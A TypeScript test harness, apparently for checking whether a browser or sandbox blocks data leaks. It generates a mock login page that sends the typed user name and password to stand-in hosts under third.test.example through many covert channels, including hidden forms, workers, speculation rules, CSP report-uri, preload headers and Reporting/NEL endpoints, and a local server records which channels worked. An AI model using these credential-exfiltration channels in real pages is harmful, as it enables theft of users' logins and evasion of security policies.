import type { IncomingMessage, ServerResponse } from 'node:http'
import { createServer } from 'node:https'
import { listen, type ListeningSite } from '../servers/listen.ts'
import { testCertificate } from '../servers/test-certificate.ts'
import { type SideDoor, sideDoors, spellingDoors } from './side-doors.ts'

/** What arrived at one of the hosts: the whole request, as text. */
interface Arrival {
  /** Without what all of them have in common. */
  host: string
  text: string
}

/** A login page that uses every side door, and the hosts behind them. */
export interface SideDoorSite extends ListeningSite {
  arrivals: Arrival[]
}

const away = 'third.test.example'

/** A host for each of them. */
export const awayHosts: readonly string[] = [...sideDoors, ...spellingDoors].map(
  ({ name }) => `${name}.${away}`,
)

export function isAwayHost(host: string): boolean {
  return host.endsWith(away)
}

/** An address that names a change of the page's own host. */
const changingPath = '/orders/7/cancel'

const helpers = `
const add = (tag, values = {}) => { const node = Object.assign(document.createElement(tag), values); document.body.append(node); return node }
const hex = (text) => Array.from(text, (letter) => letter.charCodeAt(0).toString(16).padStart(2, '0')).join('')
const work = (code, options) => new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), options)
const style = (text) => add('style', { textContent: text })
const frame = (text) => { const node = document.createElement('iframe'); node.srcdoc = text; setTimeout(() => document.body.append(node)); return node }
const rules = (kind, url) => document.head.append(Object.assign(document.createElement('script'),
  { type: 'speculationrules', textContent: JSON.stringify({ [kind]: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }) }))
const submit = (method, action, name, value) => {
  const target = 'in' + Math.random()
  add('iframe', { name: target })
  const form = add('form', { method, action, target })
  form.append(Object.assign(document.createElement('input'), { name, value }))
  form.submit()
}`

/** Where a door leads: to a host of its own with the value, or to a change of the page's own host. */
const targets = {
  away: (name: string) => `'https://${name}.${away}/take'`,
  own: (name: string) => `location.origin + '${changingPath}/${name}'`,
}

/** A page with a login whose button uses all of these doors to send what was entered. */
export function writeSideDoorPage(
  leadsTo: keyof typeof targets,
  doors: readonly SideDoor[],
): string {
  const uses = doors.map(
    ({ name, script }) => `;(async () => { const bare = ${targets[leadsTo](name)}
      const url = bare + '?v=' + encodeURIComponent(value)
      ${script} })().catch(() => {})`,
  )
  return `<!doctype html><html lang="en"><title>Log in</title><p>Text</p><form action="/in" method="post"><label>User <input name="user"></label>
    <label>Password <input name="pass" type="password"></label></form>
    <button id="send">Send</button> <p id="out"></p><script>${helpers}
    send.onclick = () => {
      const entered = [...document.querySelectorAll('input')].map((field) => field.value).join('')
      const value = entered === '' ? 'nothing-of-interest' : entered
      ${uses.join('\n')}
      out.textContent = "Sent"
    }</script>`
}

/** The doors through which something arrived at a host of its own or at the address that names a change. */
export function listUsedDoors({ arrivals }: SideDoorSite): string[] {
  const used = arrivals.flatMap(({ host, text }) => {
    if (isAwayHost(host)) return [host.slice(0, -away.length - 1)]
    const [, name] = new RegExp(`${changingPath}/([\\w-]+)`).exec(text.split('\n')[1] ?? '') ?? []
    return name === undefined ? [] : [name]
  })
  return [...new Set(used)].toSorted()
}

/** Serves the page and every host. */
export async function openSideDoorSite(page: string): Promise<SideDoorSite> {
  const arrivals: Arrival[] = []
  const server = createServer(testCertificate, (request, response) => {
    const host = request.headers.host ?? ''
    note(request, host, arrivals)
    if (isAwayHost(host)) acceptAll(response)
    else answer(page, request, response)
  })
  // Node reads no request whose method it does not know, but the bytes have arrived.
  server.on('clientError', (error, socket) => {
    if ('rawPacket' in error && error.rawPacket instanceof Uint8Array)
      noteUnread(Buffer.from(error.rawPacket).toString(), arrivals)
    socket.destroy()
  })
  server.on('upgrade', (request, socket) => {
    note(request, request.headers.host ?? '', arrivals)
    socket.destroy()
  })
  return { ...(await listen(server)), arrivals }
}

function note(request: IncomingMessage, host: string, arrivals: Arrival[]): void {
  const { method, url, rawHeaders } = request
  const arrival = { host, text: [method, url, ...rawHeaders].join('\n') }
  arrivals.push(arrival)
  request.on('data', (chunk) => {
    arrival.text += String(chunk)
  })
}

function noteUnread(packet: string, arrivals: Arrival[]): void {
  const [, method = '', url = ''] = /^(\S+) (\S+) HTTP/.exec(packet) ?? []
  const [, host = ''] = /^host: *(\S+)/im.exec(packet) ?? []
  arrivals.push({ host, text: [method, url, packet].join('\n') })
}

function acceptAll(response: ServerResponse): void {
  response.setHeader('access-control-allow-origin', '*')
  response.setHeader('access-control-allow-headers', '*')
  response.setHeader('access-control-allow-methods', '*')
  response.setHeader('access-control-max-age', '600')
  response.setHeader('content-type', 'text/plain').end()
}

function answer(page: string, { url = '/' }: IncomingMessage, response: ServerResponse): void {
  const { pathname, search } = new URL(url, 'https://site')
  const given = decodeURIComponent(search.slice(1))
  response.setHeader('content-type', 'text/html; charset=utf-8')
  if (pathname === '/redirect') response.writeHead(307, { location: given }).end()
  else if (pathname === '/shared.js') {
    response.setHeader('content-type', 'text/javascript')
    response.end(`fetch(${JSON.stringify(given)}, { mode: 'no-cors' })`)
  } else if (pathname === '/policy') {
    response.setHeader('content-security-policy', `img-src 'none'; report-uri ${given}`)
    response.end('<img src="/picture">')
  } else if (pathname === '/linking') {
    response.setHeader('link', `<${given}>; rel=preload; as=image`)
    response.end('<p>Linked</p>')
  } else if (pathname === '/hinting') {
    response.writeEarlyHints({ link: `<${given}>; rel=preload; as=image` })
    response.end('<p>Hinted</p>')
  } else if (pathname === '/reporting') {
    response.setHeader('reporting-endpoints', `a="${given}"`)
    response.setHeader('content-security-policy', "img-src 'none'; report-to a")
    response.setHeader('nel', '{"report_to":"a","max_age":99,"success_fraction":1}')
    response.end('<img src="/picture">')
  } else response.end(page)
}
